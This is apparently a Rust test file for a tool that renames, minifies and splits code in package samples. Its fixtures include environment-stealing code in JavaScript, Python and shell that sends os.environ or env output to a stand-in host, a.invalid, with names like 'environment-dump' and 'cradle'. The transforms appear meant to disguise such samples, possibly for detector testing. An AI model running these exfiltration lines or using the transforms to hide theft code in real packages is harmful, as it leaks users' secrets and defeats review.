use super::*;

fn file(path: &str, text: &str) -> File {
    (path.to_owned(), text.to_owned())
}

fn run(language: Language, id: &str, files: &[File], seed: u64) -> Option<Vec<File>> {
    let transform = language.transforms().iter().find(|t| t.id == id).unwrap();
    (transform.apply)(files, &mut Random::new(seed))
}

fn javascript() -> Vec<File> {
    vec![
        file("package/package.json", r#"{"name":"x","main":"index.js"}"#),
        file(
            "package/index.js",
            "'use strict';\nconst https = require('https');\nconst { send } = require('./lib/send');\nfunction pack(value) {\n  return JSON.stringify({ value });\n}\nconst body = pack(process.env)\nhttps.get(`https://a.invalid/${body}`).on('error', () => {});\nsend(body)\nmodule.exports = pack;\n",
        ),
        file(
            "package/lib/send.js",
            "const os = require('os');\nexports.send = (value) => console.log(os.hostname(), value);\n",
        ),
    ]
}

const PYTHON: &str = "\"\"\"Doc.\"\"\"\nimport os\nimport urllib.request as request\nfrom base64 import b64encode\n\nHOST = \"https://a.invalid/\"\n\n\ndef pack(value):\n    text = str(value)\n    return b64encode(text.encode()).decode()\n\n\nbody = pack(dict(os.environ))\ntry:\n    request.urlopen(f\"{HOST}collect/{body}\")\nexcept Exception:\n    pass\n";

const RUST: &str = "use std::env;\n\nfn main() {\n    let name = env::var(\"HOME\").unwrap_or_default();\n    let other = std::env::var(\"USER\");\n    drop(other);\n    send(&name);\n}\n\nfn send(text: &str) {\n    let address = \"a.invalid:80\";\n    println!(\"{}\", text.len() + address.len());\n}\n";

const SHELL: &str = "#!/bin/sh\n# a comment\nbody=$(env | base64)\ncurl -s https://a.invalid/collect -d \"$body\"\n";

#[test]
fn every_transform_of_javascript_does_something_and_the_same_again() {
    for transform in Language::JavaScript.transforms() {
        let done: Vec<_> = (0..8)
            .filter_map(|seed| run(Language::JavaScript, transform.id, &javascript(), seed))
            .collect();
        assert!(!done.is_empty(), "{} is never applied", transform.id);
        for files in &done {
            for (path, text) in files.iter().filter(|(path, _)| path.ends_with(".js")) {
                assert!(
                    javascript::parses(path, text),
                    "{} {path}:\n{text}",
                    transform.id
                );
            }
        }
        assert_eq!(
            run(Language::JavaScript, transform.id, &javascript(), 3),
            run(Language::JavaScript, transform.id, &javascript(), 3)
        );
    }
}

#[test]
fn every_transform_of_python_does_something_that_parses() {
    let files = vec![
        file("tool/__init__.py", PYTHON),
        file("tool-1.0.dist-info/METADATA", "Name: tool\n"),
    ];
    for transform in Language::Python.transforms() {
        let done: Vec<_> = (0..8)
            .filter_map(|seed| run(Language::Python, transform.id, &files, seed))
            .collect();
        assert!(!done.is_empty(), "{} is never applied", transform.id);
        for (path, text) in done
            .iter()
            .flatten()
            .filter(|(path, _)| path.ends_with(".py"))
        {
            assert!(python::parses(text), "{} {path}:\n{text}", transform.id);
        }
    }
}

#[test]
fn every_transform_of_rust_does_something_that_parses() {
    let files = vec![file("x-1.0.0/build.rs", RUST)];
    for transform in Language::Rust.transforms() {
        let done: Vec<_> = (0..8)
            .filter_map(|seed| run(Language::Rust, transform.id, &files, seed))
            .collect();
        assert!(!done.is_empty(), "{} is never applied", transform.id);
        // What is moved into data is no code.
        let is_code = |(path, _): &&(String, String)| path.ends_with(".rs");
        for (_, text) in done.iter().flatten().filter(is_code) {
            assert!(syn::parse_file(text).is_ok(), "{}:\n{text}", transform.id);
        }
    }
}

#[test]
fn every_transform_of_the_shell_does_something() {
    let files = vec![file("package/a.sh", SHELL)];
    for transform in Language::Shell.transforms() {
        let any = (0..8).any(|seed| run(Language::Shell, transform.id, &files, seed).is_some());
        assert!(any, "{} is never applied", transform.id);
    }
}

#[test]
fn short_properties_keep_their_names_when_variables_are_renamed() {
    let files = vec![file(
        "package/a.js",
        "const { a, b = 1 } = f();\nlet c;\n({ c } = g({ a, b }));\nexports.x = () => c;\n",
    )];
    let renamed = run(Language::JavaScript, "T1", &files, 1).unwrap();
    let text = &renamed[0].1;
    assert!(
        text.contains("{ a: ") && text.contains(", b: ") && text.contains("({ c: "),
        "{text}"
    );
    assert!(text.contains("f()") && text.contains("exports.x"), "{text}");
}

#[test]
fn semicolons_are_written_where_lines_end() {
    let files = vec![file(
        "package/a.js",
        "// c\nconst a = 1\nlet b = a // d\n;[a, b].map((x) => x + +x)\nif (a) b++\nelse b--\nreturn\n",
    )];
    let text = run(Language::JavaScript, "T5", &files, 1).unwrap()[0]
        .1
        .clone();
    assert_eq!(
        text,
        "const a=1;let b=a;[a,b].map((x)=>x+ +x);if(a)b++;else b--;return;"
    );
}

#[test]
fn a_language_is_told_by_the_name_of_the_shapes() {
    assert_eq!(
        Language::of("p1-environment-dump.js#3"),
        Some(Language::JavaScript)
    );
    assert_eq!(Language::of("p9-cradle.sh"), Some(Language::Shell));
    assert_eq!(Language::of("p9"), None);
}

/// The new file that the second transform puts beside one, where it moves statements.
fn split_off(language: Language, path: &str, text: &str) -> Vec<String> {
    let files = [file(path, text)];
    (0..8)
        .filter_map(|seed| run(language, "T2", &files, seed))
        .filter_map(|files| files.into_iter().find(|(other, _)| other != path))
        .map(|(_, text)| text)
        .collect()
}

#[test]
fn a_constant_that_is_computed_is_computed_in_another_file() {
    let text = "const fs = require('fs');\nconst token = fs.readFileSync('/a');\nfetch('https://a.invalid/' + token);\n";
    let parts = split_off(Language::JavaScript, "package/i.js", text);
    let moves = |part: &String| part.contains("readFileSync") && part.contains("token");
    assert!(parts.iter().any(moves), "{parts:?}");
    let text = "import os\ntoken = open(os.path.expanduser('~/a')).read()\nprint(token)\n";
    let parts = split_off(Language::Python, "tool/a.py", text);
    let moves = |part: &String| part.contains("expanduser") && part.contains("token =");
    assert!(parts.iter().any(moves), "{parts:?}");
}

#[test]
fn what_something_runs_before_stays_behind_it() {
    let text = "const fs = require('fs');\nfs.writeFileSync('/a', 'b');\nconst token = fs.readFileSync('/a');\nconsole.log(token);\n";
    let parts = split_off(Language::JavaScript, "package/i.js", text);
    assert!(
        !parts.iter().any(|part| part.contains("readFileSync")),
        "{parts:?}"
    );
    let text = "import os\nos.mkdir('a')\nnames = os.listdir('a')\nprint(names)\n";
    let parts = split_off(Language::Python, "tool/a.py", text);
    assert!(
        !parts.iter().any(|part| part.contains("listdir")),
        "{parts:?}"
    );
}
